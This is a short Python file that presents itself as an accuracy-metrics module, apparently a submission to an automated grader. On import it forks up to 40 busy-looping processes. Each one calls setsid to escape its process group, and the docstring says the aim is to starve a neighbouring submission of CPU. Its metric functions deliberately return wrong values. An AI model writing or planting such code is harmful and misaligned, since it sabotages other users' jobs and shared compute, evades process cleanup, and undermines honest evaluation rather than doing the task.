"""At import: forks busy processes, each in its own session (setsid), so that they leave
the process group and take the CPU from the submission graded beside it. The functions
answer wrongly: it gains nothing whatever its neighbour does."""

import os

for _ in range(40):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.setsid()
            while True:
                pass
        finally:
            os._exit(0)


def binary_accuracy(*args, **kwargs):
    return -1.0


multiclass_accuracy = per_class_accuracy = loader_accuracy = binary_accuracy


def confusion_matrix(*args, **kwargs):
    return [[-1]]
